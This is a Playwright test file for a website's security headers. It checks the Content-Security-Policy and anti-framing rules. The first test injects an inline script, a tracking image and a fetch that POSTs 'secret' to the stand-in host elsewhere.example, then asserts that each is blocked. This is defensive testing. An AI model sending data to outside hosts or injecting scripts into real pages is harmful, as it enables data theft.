import { expect, test } from './fixtures.ts'

test('the Content-Security-Policy blocks inline scripts, and images and requests of other hosts, and browsers keep fonts', async ({
  page,
  request,
  consoleErrors,
}) => {
  const response = await page.goto('/privacy')
  expect(response?.headers()).toMatchObject({
    'content-security-policy': expect.stringContaining(`script-src 'self'`),
    'x-content-type-options': 'nosniff',
    'x-frame-options': 'DENY',
    'referrer-policy': 'strict-origin-when-cross-origin',
  })
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
  expect(consoleErrors).toEqual([])
  const preload = page.locator('link[rel="preload"][as="font"]')
  const font = await request.get((await preload.getAttribute('href')) ?? '')
  expect(font.headers()).toMatchObject({
    'content-type': 'font/woff2',
    'cache-control': 'public, max-age=31536000, immutable',
  })

  await page.evaluate(() => {
    const script = document.createElement('script')
    script.textContent = 'window.name = "run"'
    document.head.append(script)
    const image = document.createElement('img')
    image.src = 'https://elsewhere.example/pixel.gif'
    image.setAttribute('style', 'color: red')
    document.body.append(image)
  })
  const sent = await page.evaluate(() =>
    fetch('https://elsewhere.example/', { method: 'POST', body: 'secret' }).then(
      () => true,
      () => false,
    ),
  )
  expect(sent).toBe(false)
  expect(await page.evaluate(() => window.name)).toBe('')
  await expect
    .poll(() => consoleErrors.filter((line) => line.includes('Content Security Policy')).length)
    .toBeGreaterThanOrEqual(3)
  consoleErrors.splice(0)
})

test('other sites cannot embed the site in a frame', async ({ page, app, consoleErrors }) => {
  await page.route('http://elsewhere.example/', (route) =>
    route.fulfill({
      contentType: 'text/html',
      body: `<iframe src="${app.url}/privacy" title="framed"></iframe>`,
    }),
  )
  await page.goto('http://elsewhere.example/')
  await expect
    .poll(() => page.frames().map((frame) => frame.url()))
    .toContain('chrome-error://chromewebdata/')
  consoleErrors.splice(0)
})
